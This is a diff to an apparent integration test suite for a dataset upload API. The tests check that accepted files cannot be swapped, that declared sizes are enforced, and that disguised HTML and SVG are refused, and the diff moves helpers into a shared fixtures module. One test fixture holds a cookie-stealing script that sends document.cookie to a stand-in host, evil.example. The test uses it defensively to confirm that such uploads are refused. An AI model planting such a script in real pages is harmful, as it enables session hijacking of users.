@@ -3,6 +3,7 @@ import { ListObjectsV2Command } from '@aws-sdk/client-s3';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { newUser, type TestUser } from './accounts';
 import { api, uniqueTitle } from './client';
+import { createDataset, eventually } from './fixtures';
 import { localS3 } from './local-store';
 
 /**
@@ -24,16 +25,6 @@ const text = (value: string) => new TextEncoder().encode(value);
 const CSV = text('commune,population\nParis,2100000\nLyon,520000\n');
 const HTML = text('<html><body><script>document.location="https://evil.example/?"+document.cookie</script>');
 
-async function createDataset() {
-  const response = await api.post(
-    '/api/1/datasets/',
-    { title: uniqueTitle('Uploads bound'), description: 'Bound uploads.' },
-    publisher.headers,
-  );
-  expect(response.status, response.text).toBe(201);
-  return response.json as { id: string };
-}
-
 type Form = { url: string; fields: Record<string, string> };
 
 async function sendForm(form: Form, bytes: Uint8Array) {
@@ -48,16 +39,6 @@ async function resourceNow(path: string, headers: Record<string, string>) {
   const response = await api.getWith(path, headers);
   expect(response.status, response.text).toBe(200);
   return response.json;
-}
-
-async function until<T>(read: () => Promise<T>, done: (value: T) => boolean, what: string): Promise<T> {
-  const deadline = Date.now() + 15_000;
-  for (;;) {
-    const value = await read();
-    if (done(value)) return value;
-    if (Date.now() > deadline) throw new Error(`${what}: ${JSON.stringify(value)}`);
-    await new Promise((resolve) => setTimeout(resolve, 100));
-  }
 }
 
 async function objectsUnder(prefix: string): Promise<string[]> {
@@ -84,7 +65,7 @@ async function declareFile(datasetId: string, file: { filename: string; size: nu
 }
 
 const finalized = (path: string, uploadId: string) =>
-  until(
+  eventually(
     () => resourceNow(path, publisher.headers),
     (resource) => resource.upload?.id === uploadId && resource.upload.status !== 'pending',
     'not finalized',
@@ -92,7 +73,7 @@ const finalized = (path: string, uploadId: string) =>
 
 describe('an accepted file cannot be swapped', () => {
   it('a form sent again after finalize accepted it changes neither the bytes served nor the checksum', async () => {
-    const dataset = await createDataset();
+    const dataset = await createDataset(publisher);
     const declared = await declareFile(dataset.id, {
       filename: 'communes.csv',
       size: CSV.length,
@@ -103,7 +84,7 @@ describe('an accepted file cannot be swapped', () => {
     expect(accepted).toMatchObject({ status: 'available', filesize: CSV.length, sha256: sha256(CSV) });
     // Accepted, the uploaded object is gone: the file is served from finalize's copy.
     const uploadPrefix = `datasets/${dataset.id}/${declared.rid}/`;
-    await until(
+    await eventually(
       () => objectsUnder(uploadPrefix),
       (keys) => keys.length === 0,
       'the upload stayed',
@@ -114,7 +95,7 @@ describe('an accepted file cannot be swapped', () => {
     swap.set(HTML.subarray(0, CSV.length));
     await sendForm(declared.upload, swap);
     // Finalize sees the second object and deletes it: nothing is left at the upload key.
-    await until(
+    await eventually(
       () => objectsUnder(uploadPrefix),
       (keys) => keys.length === 0,
       'the second send stayed',
@@ -130,7 +111,7 @@ describe('an accepted file cannot be swapped', () => {
   });
 
   it('a community resource form sent again changes nothing either', async () => {
-    const dataset = await createDataset();
+    const dataset = await createDataset(publisher);
     const answer = await api.post(
       `/api/1/datasets/${dataset.id}/upload/community/`,
       { filename: 'contrib.csv', size: CSV.length, mime: 'text/csv' },
@@ -139,19 +120,19 @@ describe('an accepted file cannot be swapped', () => {
     expect(answer.status, answer.text).toBe(201);
     const path = `/api/1/datasets/community_resources/${answer.json.resource.id}/`;
     await sendForm(answer.json.upload, CSV);
-    await until(
+    await eventually(
       () => resourceNow(path, contributor.headers),
       (resource) => resource.status === 'available',
       'not accepted',
     );
-    await until(
+    await eventually(
       () => objectsUnder(`datasets/${dataset.id}/${answer.json.resource.id}/`),
       (keys) => keys.length === 0,
       'the upload stayed',
     );
     const swap = new Uint8Array(CSV.length).fill(0x41);
     await sendForm(answer.json.upload, swap);
-    await until(
+    await eventually(
       () => objectsUnder(`datasets/${dataset.id}/${answer.json.resource.id}/`),
       (keys) => keys.length === 0,
       'the second send stayed',
@@ -161,7 +142,7 @@ describe('an accepted file cannot be swapped', () => {
   });
 
   it('a multipart upload, once complete and accepted, cannot be completed again', async () => {
-    const dataset = await createDataset();
+    const dataset = await createDataset(publisher);
     const answer = await api.post(
       `/api/1/datasets/${dataset.id}/upload/multipart/`,
       { filename: 'small.csv', size: CSV.length, mime: 'text/csv' },
@@ -192,7 +173,7 @@ describe('an accepted file cannot be swapped', () => {
 
 describe('the declared size is the size', () => {
   it('refuses 6,000 bytes sent for 10 declared (the policy says 10 to 10; the local S3 checks no policy)', async () => {
-    const dataset = await createDataset();
+    const dataset = await createDataset(publisher);
     const declared = await declareFile(dataset.id, { filename: 'tiny.csv', size: 10, mime: 'text/csv' });
     expect(declared.upload.max_bytes).toBe(10);
     await sendForm(declared.upload, new Uint8Array(6000).fill(0x61));
@@ -204,7 +185,7 @@ describe('the declared size is the size', () => {
   });
 
   it('refuses fewer bytes than declared', async () => {
-    const dataset = await createDataset();
+    const dataset = await createDataset(publisher);
     const declared = await declareFile(dataset.id, { filename: 'short.csv', size: 100, mime: 'text/csv' });
     await sendForm(declared.upload, CSV);
     const refused = await finalized(declared.path, declared.upload.id);
@@ -249,7 +230,7 @@ describe('HTML and SVG in every disguise are refused', () => {
     ['HTML with no name or type to tell', text(`\u0000\u0000${page}`), 'export', 'application/octet-stream'],
   ];
   it.each(cases)('refuses %s', async (_name, bytes, filename, mime) => {
-    const dataset = await createDataset();
+    const dataset = await createDataset(publisher);
     const declared = await declareFile(dataset.id, { filename, size: bytes.length, mime });
     await sendForm(declared.upload, bytes);
     const refused = await finalized(declared.path, declared.upload.id);
@@ -260,7 +241,7 @@ describe('HTML and SVG in every disguise are refused', () => {
   });
 
   it('refuses an SVG up front (415), by name and by declared type', async () => {
-    const dataset = await createDataset();
+    const dataset = await createDataset(publisher);
     for (const file of [
       { filename: 'logo.svg', size: 10, mime: 'application/octet-stream' },
       { filename: 'logo', size: 10, mime: 'image/svg+xml' },
